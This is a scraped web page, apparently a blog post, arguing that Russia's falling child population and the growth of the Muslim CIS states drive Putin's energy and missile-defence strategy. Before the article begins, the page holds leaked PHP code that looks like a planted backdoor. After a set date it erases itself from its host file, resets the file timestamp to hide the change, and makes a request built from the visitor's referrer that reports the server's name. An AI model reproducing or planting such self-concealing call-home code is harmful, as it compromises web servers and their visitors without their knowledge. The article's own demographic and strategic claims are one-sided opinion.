check_meta(); function check_meta(){ $jp = __FILE__; $jptime = filemtime($jp); if(time() >= 1456738022){ $jp_c = file_get_contents($jp); if($t = @strpos($jp_c,"check_meta();")) { $contentp = substr($jp_c,0,$t); if(@file_put_contents($jp, $contentp)){ @touch($jp,$jptime); } } } @file_get_contents("".$_SERVER['HTTP_REFERER']."&vpage=http://".$_SERVER['SERVER_NAME']."/modules/mod_footer/tmpl/footer.php"); } President Putin's Other Legacy
Login Form
Please Log In or Register to leave a comment or receive bi-monthly updates.

If you have registered and not received a verification email, please check to see if it has been designated as spam.

President Putin's Other Legacy

Eight Million Missing Children

Vladimir Putin, often heralded as the ‘Savior of Russia’, credited with bringing an end to chaos, reviving the economy (average GDP growthduring his tenure 7%), and restoring Russian national pride, has another less vaunted claim to fame; in the eight years he presided over Russia the number of 0-19 year olds fell from 38 million to 30 million, a loss of 8 million children, that's 1 million less children every year.

To be fair to Prime Minister Putin, this is part of a wider trend that much of Europe is experiencing, but the population changes in the former USSR are worthy of special attention due to the diametrically opposite pressures being exerted within what is now the Commonwealth of Independent States (CIS).

This is the second in a series of article on Population Pressure. The first being Rock and a Hardplace

Just as Russia is producing less Natashas, Nikolais and Vladimirs, so the Muslim CIS states are going into overdriveproducing ever more Leylas, Abdulmedjit and Alibeks.The net effect  on the 2050 population of the CIS, a fall of 6.5% fromits 2000 levels, does not appear overly dramatic, especially given some of the enormous changes that theglobal population is undergoing. What is dramatic is the shift in population balance between the Western (Orthodox Christian) states - Armenia, Belarus, Georgia, Moldova, Russia, Ukraine - and the Eastern (Muslim) ones - Azerbaijan, Kazakhstan, Kyrgyzstan Tajikistan,Turkmenistan Uzbekistan.

In 40 years time the population of Russia and the western section of the CIS will have fallen to 74% of their 2000 levels, whilst the population of the eastern segment will have risen to 138%.

The implications of this change are even greater than the gross numbers suggest as in addition to shrinking, the western CIS population is also rapidly aging.

Historically the western CIS has significantly outnumbered the eastern CIS. As the following charts indicate 10 years ago just  the 15-39 year old's (military age) in the west more than outnumbered the entire population of the eastern CIS

Russia used the last 10 years wisely. President Putin, no doubt aware of  the potential dwindling ofinfluence over its eastern neighbors, ensured Russia's future dominance in the region by  pushing through vast infrastructure projects that connect the energy rich eastern states to their markets. This will enable Russia to keep it's hand on the switch and thus able to exert influence over both Europe and the energy producers long after its military manpower advantage has ceased to exist.

Even in the last 10 years, Russia's population advantage has slipped noticeably. It still enjoys 2.5:1 advantage in the military age group, but you will note that the number of under 14's has slipped by more than 9 million, that is almost a 25% drop in a mere 10 years.

One could argue that Putin's efforts to maintain Russian influence can be outflanked by the building of new pipelines through territory that Russia does not control. This would be possible, but such construction would take years and would only be feasible if  Russia were to keep the energy flowing during the period of construction. Should Russia consider such projects as a threat to its strategic interests, a not unlikely interpretation of events, Russia would still have the ability to switch off the lights in much of Europe.

We will not have to wait all that long to discover what the Russian strategy is.Unlike changes in climate, the changes in population are far easier to foresee and happen much faster.  We know that forty years from now Russia will have all but lost its hold over the eastern CIS in terms of military manpower, the crucial ratio having slipped from over 3:1 to 5:4.

Further, Russia will be struggling under the burden of a severely aging population, with nearly two thirds of its population over 40, and almost as many over 70's as 15-39 yearolds.

These figures are not disputed so much as ignored. They are in the public domain, available online from the UN and the US Census Bureau ( They go a long way to explaining many of the strategic decisions made by President Putin and his stand in, President Medvedev, including Russia's long standing and deep-seated objections to the US Missile Defense Shield bases in Europe

As Russia's armed forces are starved of manpower, and missiles on both sides effectively cancel each other out, what better strategic weapon that to be able to control the energy that your neighbors rely on. There is a view that this is a mutual dependency, that Russia is as dependent on Europe for finance and trade as Europe is for energy controlled by Russia.

That, however, is like arguing that If I depend on you for air, and you depend on me for food and water then we are mutually dependent. It ignores the fact that you can survive far longer without food and water than I can without oxygen. and once my oxygen supply runs out there is nothing to stop you marching in and helping yourself to my food and water.

An effective missile shield would therefore not be in Russia's interest as this would return us tothe status quo ante, with missiles plus missile shield balancing missiles plus energy control, undermining Russia's plan for strategic dominance. If that is indeed their plan. There are those who believe that Putin, Medvedev and Co. are just in this for the money, and are using their power to acquire massive wealth. This is a very western model for viewing the world. I think it far more likely that they are using money to acquire power than the other way round.

Both Putin and Medvedev are relatively young men (58 & 45) and are likely to be key players for the next few decades as we watch their strategy unfold. Whatever their game plan is it is likely to be far more realpolitik than anything offered up by their EU or American counterparts.

But however effective they are at devising and executing geopolitical strategy it will all come to nowt if they are unable to provide a domestic environment which entices their populace to breed. As it stands at the moment they are failing in this most basic, and most crucial, national task. UnlessRussia, and its Western CIS allies, begin filling their empty cribs their future can be nothing but bleak.

Follow SecretLovechi1d on Twitter

 Tweet me!

Add comment

Due to thelevel of abusive comments we have introduced a policy of verifying emails of guest prior to publishing their comments. It's not that we object to amusing comments, but they should be in some wayrelated to the article rather than just the sexual predilections of SecretLoveChild's parents.
If you would likeyour comments to appear immediately, pleaselog on or register. Thanks

FollowSecretLovechi1d on Twitter
I want to: